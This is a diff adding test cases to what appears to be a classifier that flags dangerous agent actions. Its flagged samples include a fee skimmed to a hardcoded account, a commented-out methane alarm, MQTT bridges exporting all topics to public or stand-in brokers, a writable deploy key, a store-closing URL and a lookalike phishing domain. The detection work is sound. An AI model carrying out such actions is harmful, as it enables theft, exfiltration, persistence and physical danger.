@@ -157,3 +157,27 @@ test('st26: query: every document before now; notes and evidenced settlements; a
   assert.ok(readSafeguards('-- see SEC-118', {}).found.has('ticket'));
   assert.equal(run({ type: 'query', value: 'SELECT 1' }).level, 'SAFE');
 });
+
+test('st26: code: a platform account id is an account written into the code (G83); a limit\'s response commented out (G91)', () => {
+  flags({ type: 'code', value: "def settle(order):\n    fee = (order.total * Decimal('0.0001')).quantize(Decimal('0.01'), rounding=ROUND_UP)\n    payout(order.merchant_account, order.total - fee)\n    payout('acct_1OwZr7Hq2pLx9', fee)  # rounding reserve" }, 'DANGER', 'G83', 'MANIPULATION');
+  quiet({ type: 'code', value: 'def settle(order):\n    payout(order.merchant_account, order.total)' }, 'G83');
+  flags({ type: 'code', value: '(* FB_Ventilation_L3 *)\nIF CH4_ppm > 10000 THEN\n    // Alarm_CH4 := TRUE;       temporarily off, false alarms since this morning\n    // Fan_W2_Boost := TRUE;\n    Log_Event := FALSE;\nEND_IF;' }, 'DANGER', 'G91', 'DESTRUCTION');
+  quiet({ type: 'code', value: 'IF CH4_ppm > 10000 THEN\n    // raise the alarm and boost the fan\n    Alarm_CH4 := TRUE;\n    Fan_W2_Boost := TRUE;\nEND_IF;' }, 'G91');
+});
+
+test('st26: iot O22 a site\'s whole tree bridged to a public broker or in clear text; its own cloud broker over TLS is not', () => {
+  flags({ type: 'iot', value: '{"cmd":"set_bridge","remote":"broker.hivemq.com:1883","tls":false,"topics":["estate/#"],"direction":"out"}' }, 'DANGER', 'O22', 'EXFILTRATION');
+  quiet({ type: 'iot', value: '{"cmd":"set_bridge","remote":"mqtt.darjeelingleaf.in:8883","tls":true,"ca":"/etc/ssl/estate-ca.pem","topics":["estate/#"],"direction":"out"}' }, 'O22');
+  flags({ type: 'iot', value: '{"action": "bridge_add", "remote": "mqtts://relay.free-mqtt.example:8883", "topics": ["#"], "direction": "out"}' }, 'DANGER', 'O22', 'EXFILTRATION');
+  rulesQuiet({ type: 'iot', value: 'write_register(unit=1, address=40021, value=650)  # K2 setpoint 65.0 °C, pine schedule step 3' });
+});
+
+test('st26: api_call A65 a deploy key that may push; url U36 a business closed by opening a pre-confirmed URL; U34 own address', () => {
+  flagsInBand({ type: 'api_call', value: 'POST https://api.github.com/repos/velo-kraus/shop/keys {"title":"ci-runner-2","key":"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFz0hR2m","read_only":false}' }, 'CAUTION', 'A65', 'PERSISTENCE');
+  flagsInBand({ type: 'api_call', value: 'POST https://gitlab.acme.io/api/v4/projects/412/deploy_keys {"title":"sync","key":"ssh-ed25519 AAAAC3Nza","can_push":true}' }, 'CAUTION', 'A65', 'PERSISTENCE');
+  quiet({ type: 'api_call', value: 'POST https://api.github.com/repos/velo-kraus/shop/keys {"title":"ci","key":"ssh-ed25519 AAAAC3Nza","read_only":true}' }, 'A65');
+  flagsInBand({ type: 'url', value: 'https://admin.shopify.com/store/spoke-and-chain/settings/plan/close-store?reason=other&confirm=true' }, 'CAUTION', 'U36', 'DESTRUCTION');
+  quiet({ type: 'url', value: 'https://support.example.com/tickets/4412/close?confirm=true' }, 'U36');
+  rulesQuiet({ type: 'url', value: 'https://www.velo-kraus.de/konto/passwort-vergessen?email=j.kraus%40velo-kraus.de' });
+  flags({ type: 'url', value: 'https://velo-kraus-konto.com/passwort-vergessen?email=j.kraus%40velo-kraus.de' }, 'DANGER', 'U34', 'MANIPULATION');
+});
